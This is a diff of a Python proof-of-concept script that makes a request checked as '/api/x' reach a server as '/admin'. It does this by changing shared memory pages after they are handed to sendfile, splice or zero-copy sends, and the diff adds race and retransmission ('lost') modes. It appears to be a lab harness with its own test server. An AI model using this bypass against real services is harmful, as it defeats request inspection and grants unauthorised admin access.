@@ -5,13 +5,20 @@ Usage: shared_pages.py serve ADDRESS PORT GO-FILE	accepts one connection after t
 						the file is there, and answers with the request's target
        shared_pages.py WAY ADDRESS PORT GO-FILE
 
-WAY is sendfile, splice (of pages from vmsplice), zerocopy (MSG_ZEROCOPY), or behind-a-body: sendfile of the end of a
-body and the next request. The client prints the target that the server has read last: "/api/x" is what was judged,
-"/admin" what it became.
+WAY is sendfile, bound (the same from a socket bound to eth0), splice (of pages from vmsplice), zerocopy (MSG_ZEROCOPY), or
+behind-a-body: sendfile of the end of a body and the next request. The client prints the target that the server has read
+last: "/api/x" is what was judged, "/admin" what it became.
+
+Two ways need no late reader, GO-FILE is there all the time. "race": another process changes the page to and fro while 300
+connections send it; prints how many were answered for each target. "lost": sends it when GO-FILE.cut is there, changes it,
+makes GO-FILE.changed: what the network has lost meanwhile is sent once more.
 """
+import collections
 import ctypes
+import functools
 import mmap
 import os
+import signal
 import socket
 import sys
 import time
@@ -20,6 +27,7 @@ JUDGED = b"GET /api/x HTTP/1.1\r\nHost: b\r\n\r\n"
 BECOMES = b"GET /admin HTTP/1.1\r\nHost: b\r\n\r\n"
 SO_ZEROCOPY, MSG_ZEROCOPY = 60, 0x4000000
 REST, SIZE = 20000, 32768
+RACES = 300
 SPLICE_F_GIFT, SPLICE_F_MOVE = 8, 1
 
 libc = ctypes.CDLL(None, use_errno=True)
@@ -81,18 +89,24 @@ def by_zerocopy(s, memory, file, size):
 
 WAYS = {
     "sendfile": by_sendfile,
+    "bound": by_sendfile,
     "behind-a-body": by_sendfile_behind_a_body,
     "splice": by_splice,
     "zerocopy": by_zerocopy,
 }
 
 
+def connect(address, port, is_bound):
+    s = socket.socket(family(address))
+    if is_bound:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
+    s.connect((address, port))
+    return s
+
+
 def attack(way, address, port, go):
-    file = os.memfd_create("shared")
-    os.ftruncate(file, SIZE)
-    memory = mmap.mmap(file, SIZE)
-    memory[: len(JUDGED)] = JUDGED
-    s = socket.create_connection((address, port))
+    file, memory = shared()
+    s = connect(address, port, way == "bound")
     s.settimeout(5)
     at = WAYS[way](s, memory, file, len(JUDGED)) or 0
     time.sleep(0.3)  # it is judged when it arrives
@@ -111,11 +125,65 @@ def attack(way, address, port, go):
     return answer.split(b"\r\n\r\n")[-1].decode() or "nothing"
 
 
+def shared():
+    file = os.memfd_create("shared")
+    os.ftruncate(file, SIZE)
+    memory = mmap.mmap(file, SIZE)
+    memory[: len(JUDGED)] = JUDGED
+    return file, memory
+
+
+def answered(s):
+    """The target that the answer names; "none" when there is none of the server's."""
+    answer = b""
+    try:
+        while part := s.recv(1000):
+            answer += part
+    except OSError:
+        pass
+    body = answer.split(b"\r\n\r\n")[-1].decode()
+    return body if body.startswith("/") else "none"
+
+
+def race(address, port, go):
+    file, memory = shared()
+    child = os.fork()
+    if not child:
+        while True:
+            memory[4:10] = b"/admin"
+            memory[4:10] = b"/api/x"
+    seen = collections.Counter()
+    for _ in range(RACES):
+        s = socket.create_connection((address, port))
+        s.settimeout(0.5)
+        os.sendfile(s.fileno(), file, 0, len(JUDGED))
+        s.shutdown(socket.SHUT_WR)
+        seen[answered(s)] += 1
+        s.close()
+    os.kill(child, signal.SIGKILL)
+    return " ".join(f"{k}:{v}" for k, v in sorted(seen.items()))
+
+
+def lost(address, port, go):
+    file, memory = shared()
+    s = socket.create_connection((address, port))
+    s.settimeout(10)
+    print("connected", flush=True)
+    while not os.path.exists(go + ".cut"):
+        time.sleep(0.02)
+    os.sendfile(s.fileno(), file, 0, len(JUDGED))
+    time.sleep(0.05)
+    memory[: len(JUDGED)] = BECOMES[: len(JUDGED)]
+    open(go + ".changed", "w").close()
+    return answered(s)
+
+
 def main():
     what, address, port, go = sys.argv[1:]
     if what == "serve":
         serve(address, int(port), go)
-    print(attack(what, address, int(port), go))
+    way = {"race": race, "lost": lost}.get(what, functools.partial(attack, what))
+    print(way(address, int(port), go))
 
 
 if __name__ == "__main__":
